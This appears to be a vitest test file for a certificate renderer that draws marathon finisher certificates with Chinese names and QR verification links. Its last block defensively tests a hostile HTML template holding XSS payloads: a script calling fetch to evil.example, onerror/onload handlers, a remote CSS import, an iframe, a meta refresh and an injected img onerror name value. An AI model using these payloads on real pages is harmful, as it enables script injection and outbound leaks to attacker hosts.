import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import encodeQR from 'qr'
import decodeQR from 'qr/decode.js'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type DrawingDesk, difference, openDrawingDesk } from '#test/drawing.ts'
import { convertHtml } from './convert.ts'
import { cleanHtml } from './html.ts'
import { setUpPress } from './press.ts'
import { drawStandard } from './standard.ts'
import type { Sheet } from './web/sheet.ts'

/** Templates as organisers have them; they lie beside the project, not in it. */
const templates = process.env['STARTLINE_SHARED'] ?? join(import.meta.dirname, '../../../shared/data/templates')
const present = existsSync(join(templates, 'T1.html'))
/** Differing pixels against the browser's own rendering of the same HTML. */
const BOUND = 0.01

const size = { width: 1280, height: 1810 }
const svgPicture = async (inside: string, width: number, height: number) =>
  `data:image/jpeg;base64,${(await sharp(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">${inside}</svg>`)).jpeg({ quality: 90 }).toBuffer()).toString('base64')}`
const link = 'https://startline.example/verify?n=7K3M-9QXA-22FC-HT5W'

const usual = { 赛事名称: '2026江城马拉松', 英文名称: 'Jiangcheng Marathon 2026', 项目: '全程马拉松', 参赛号: 'A12345', 年龄段: '男子35-39岁', 枪成绩: '03:25:41', 净成绩: '03:24:18', 全部枪排名: '312 / 26598', 性别枪排名: '287 / 18020', 日期: '2026年11月22日' }
const runners: Record<string, Record<string, string>> = {
  'a short name with a rare character': { ...usual, 姓名: '李䶮' },
  'a long name with rare characters': { ...usual, 姓名: '阿卜杜拉·买买提吐尔逊·𬱖', 英文名称: 'The Extraordinarily Long Named Jiangcheng International Marathon & Half Marathon', 赛事名称: '2026江城国际马拉松赛暨全国马拉松锦标赛（江城站）' },
  'a long foreign name': { ...usual, 姓名: 'Wolfeschlegelsteinhausen Alexander Maximilian' },
}
const escaped = (text: string) => text.replace(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`)

let desk: DrawingDesk
let bg: string
let photo: string
beforeAll(async () => {
  bg = await svgPicture('<defs><linearGradient id="g" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#fde8d8"/><stop offset="1" stop-color="#d8ecfd"/></linearGradient></defs><rect width="1280" height="1810" fill="url(#g)"/><rect x="30" y="30" width="1220" height="1750" fill="none" stroke="#8b1a1a" stroke-width="6"/>', size.width, size.height)
  photo = await svgPicture('<rect width="600" height="800" fill="#3a7"/><circle cx="300" cy="300" r="200" fill="#fc6"/>', 600, 800)
  desk = await openDrawingDesk()
}, 60_000)
afterAll(() => desk?.close())

const sheetOf = (html: string, values: Record<string, string>): Sheet => {
  const clean = cleanHtml(html).html
  const done = convertHtml(clean)
  return { ...size, bg, html: clean, boxes: 'converted' in done ? done.converted.boxes : null, values, photo, link }
}

/** The template filled by nothing but text replacement, so that the browser's rendering owes nothing to the code under test. */
const filledByHand = (html: string, values: Record<string, string>): string => {
  const modules = encodeQR(link, 'raw', { ecc: 'medium', border: 2 })
  const dark = modules.flatMap((row, y) => row.map((on, x) => (on ? `<rect x="${x}" y="${y}" width="1" height="1"/>` : ''))).join('')
  const code = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${modules.length} ${modules.length}" shape-rendering="crispEdges"><rect width="100%" height="100%" fill="#fff"/>${dark}</svg>`
  const all: Record<string, string> = { bg, photo, qr: `data:image/svg+xml;base64,${Buffer.from(code).toString('base64')}` }
  for (const [name, value] of Object.entries(values)) all[name] = escaped(value)
  return Object.entries(all).reduce((filled, [name, value]) => filled.replaceAll(`%${name}%`, value), html)
}

const readCode = async (picture: Buffer): Promise<string> => {
  const { data, info } = await sharp(picture).ensureAlpha().raw().toBuffer({ resolveWithObject: true })
  return decodeQR({ width: info.width, height: info.height, data: new Uint8Array(data) }, { effort: Infinity, timeLimit: Infinity })
}

if (!present) console.warn(`SKIPPED: the certificate templates T1–T3 are not at ${templates}; fidelity is not measured`)
describe.skipIf(!present)('a drawn certificate is what the browser shows', () => {
  const cases = ['T1', 'T2', 'T3'].flatMap((template) => Object.keys(runners).map((runner) => [template, runner] as const))
  test.each(cases)('%s with %s', async (template, runner) => {
    const html = readFileSync(join(templates, `${template}.html`), 'utf8')
    const sheet = sheetOf(html, runners[runner]!)
    expect(sheet.boxes !== null).toBe(template === 'T1')
    const page = await desk.open()
    const drawn = await desk.draw(page, sheet)
    const [canvas, reference] = [await desk.png(page), await desk.reference(filledByHand(html, runners[runner]!), size.width, size.height)]
    await page.context().close()
    const jpeg = Buffer.from(drawn.jpeg, 'base64')
    expect(await difference(canvas, reference)).toBeLessThanOrEqual(BOUND)
    expect(await difference(jpeg, reference)).toBeLessThanOrEqual(BOUND)
    expect(await readCode(jpeg)).toBe(link)
  }, 60_000)
})

test('a rare character is drawn, not left out or replaced by a box', async () => {
  const sheet = (name: string): Sheet => ({ ...size, height: 200, bg: null, html: '', values: { 姓名: name }, photo: null, link, boxes: [{ kind: 'text', x: 0, y: 0, width: 1280, text: '%姓名%', font: "'Noto Sans CJK SC',sans-serif", size: 110, weight: 400, italic: false, colour: '#000000', align: 'left', line: 140, spacing: 0, fit: 'none', rotate: 0, vertical: false, shadow: null, opacity: 1 }] })
  const page = await desk.open()
  const pictures: Buffer[] = []
  // The last two are noncharacters: whatever a font shows for what it does not have.
  for (const name of ['䶮', '𬱖', '\u{10fffd}', '']) {
    await desk.draw(page, sheet(name))
    pictures.push(await desk.png(page))
  }
  const [first, second, missing, nothing] = pictures as [Buffer, Buffer, Buffer, Buffer]
  for (const rare of [first, second]) {
    expect(await difference(rare, nothing)).toBeGreaterThan(0.002)
    expect(await difference(rare, missing)).toBeGreaterThan(0.002)
  }
  expect(await difference(first, second)).toBeGreaterThan(0.002)
  await page.context().close()
}, 60_000)

test('a percent sign that is no known field stays, in boxes and in HTML', async () => {
  const page = await desk.open()
  const html = '<div style="width:1280px;height:300px;font:60px/80px sans-serif">完成率 100% %姓名% %不是字段%</div>'
  await desk.draw(page, { ...size, height: 300, bg: null, html, boxes: null, values: { 姓名: '李雷' }, photo: null, link })
  const reference = await desk.reference(html.replace('%姓名%', '李雷'), size.width, 300)
  expect(await difference(await desk.png(page), reference)).toBeLessThanOrEqual(BOUND)
  await page.context().close()
}, 60_000)

test('the server paints the picture that the browser paints, its QR code included', async () => {
  const { boxes } = drawStandard({ kind: 'timing', primary: '#c8102e', city: '江城' })
  const values = { ...runners['a short name with a rare character']!, 城市: '江城', 年龄段排名: '48', 证书编号: '72-7K3M-9QXA-22FC-HT5W' }
  const sameFont = boxes.map((box) => (box.kind === 'text' ? { ...box, font: "'Noto Sans CJK SC',sans-serif" } : box))
  const press = await setUpPress({ ...size, bg, boxes: sameFont }, () => Promise.resolve(Buffer.from(bg.split(',')[1]!, 'base64')))
  const page = await desk.open()
  await desk.draw(page, { ...size, bg, html: '', boxes: sameFont, values, photo: null, link })
  // Two rasterisers round a baseline differently; more than a hair's breadth would be more than this.
  expect(await difference(await press.draw(values, link).encode('png'), await desk.png(page))).toBeLessThanOrEqual(0.02)
  expect(await readCode(await press.print(values, link))).toBe(link)
  await page.context().close()
}, 60_000)

describe('nothing is ever half drawn', () => {
  test.each([
    ['boxes', '<div style="position:relative;width:1280px;height:1810px"><img src="%bg%" width="1280" height="1810" style="position:absolute;left:0;top:0"></div>'],
    ['HTML', '<div style="width:1280px;height:1810px;background:url(%bg%)"><b>%姓名%</b></div>'],
  ])('a background that can not be had is an error (%s)', async (_, html) => {
    const page = await desk.open()
    await expect(desk.draw(page, { ...sheetOf(html, usual), bg: `${desk.origin}/files/1/gone.jpg` })).rejects.toThrow(/not loaded/)
    expect(await page.locator('canvas').count()).toBe(0)
    await page.context().close()
  }, 60_000)
})

describe('a hostile template', () => {
  const hostile =
    '<script>document.title="stolen";fetch("https://evil.example/s")</script><img src="%bg%" onload="document.title=\'stolen\'" onerror="top.document.title=\'stolen\'"><img src="https://evil.example/a.png"><div style="background:url(https://evil.example/b.png)">%姓名%</div><style>@import url(https://evil.example/c.css);p{background:url("//evil.example/d.png")}</style><p>a</p><svg onload="document.title=\'stolen\'"><image href="https://evil.example/e.png"/></svg><iframe src="https://evil.example/f"></iframe><link rel=stylesheet href="https://evil.example/g.css"><meta http-equiv="refresh" content="0;url=https://evil.example/h">'
  test.each([
    ['cleaned on saving', (html: string) => cleanHtml(html).html],
    ['as it is, had the cleaning let it through', (html: string) => html],
  ])('runs nothing and reaches nothing outside: %s', async (_, prepare) => {
    const page = await desk.open()
    desk.asked.length = 0
    await desk.draw(page, { ...size, bg, html: prepare(hostile), boxes: null, values: { 姓名: '<img src=x onerror="document.title=\'stolen\'">' }, photo: null, link })
    await page.waitForTimeout(300)
    expect(await page.title()).not.toBe('stolen')
    expect(desk.asked).toEqual([])
    expect(page.url()).toBe(`${desk.origin}/`)
    await page.context().close()
  }, 60_000)
})
